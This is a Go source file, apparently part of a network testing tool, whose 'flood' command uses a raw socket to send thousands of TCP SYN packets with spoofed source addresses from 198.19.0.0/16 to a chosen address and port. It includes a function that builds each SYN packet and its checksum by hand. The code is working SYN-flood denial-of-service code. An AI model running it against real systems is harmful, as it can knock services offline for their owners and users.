package main

import (
	"encoding/binary"
	"flag"
	"math/rand/v2"
	"net/netip"

	"golang.org/x/sys/unix"
)

// floodCommand sends SYNs to a port from addresses of 198.19.0.0/16 that nobody has (root only):
// every one begins another connection.
func floodCommand(args []string) (result, error) {
	n := 20000
	rest, err := flags("flood", args, 1, func(fs *flag.FlagSet) { fs.IntVar(&n, "n", n, "how many") })
	if err != nil {
		return result{}, err
	}
	to, err := netip.ParseAddrPort(rest[0])
	if err != nil {
		return result{}, err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return failed(err), nil
	}
	defer unix.Close(fd)
	sent := 0
	for i := range n {
		from := netip.AddrFrom4([4]byte{198, 19, byte(i >> 8), byte(i)})
		if unix.Sendto(fd, synPacket(from, to), 0, &unix.SockaddrInet4{Addr: to.Addr().As4()}) == nil {
			sent++
		}
	}
	return result{Result: "sent", Extra: map[string]float64{"packets": float64(sent)}}, nil
}

// synPacket is an IPv4 packet with a SYN.
func synPacket(from netip.Addr, to netip.AddrPort) []byte {
	b := make([]byte, 40)
	b[0], b[8], b[9] = 0x45, 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(b[2:], 40)
	src, dst := from.As4(), to.Addr().As4()
	copy(b[12:], src[:])
	copy(b[16:], dst[:])
	binary.BigEndian.PutUint16(b[20:], uint16(1024+rand.IntN(60000)))
	binary.BigEndian.PutUint16(b[22:], to.Port())
	binary.BigEndian.PutUint32(b[24:], rand.Uint32())
	b[32], b[33], b[34] = 5<<4, 0x02, 0xff
	sum := uint32(unix.IPPROTO_TCP) + 20
	for i := 12; i < 40; i += 2 { // both addresses and the segment
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(b[36:], ^uint16(sum))
	return b
}
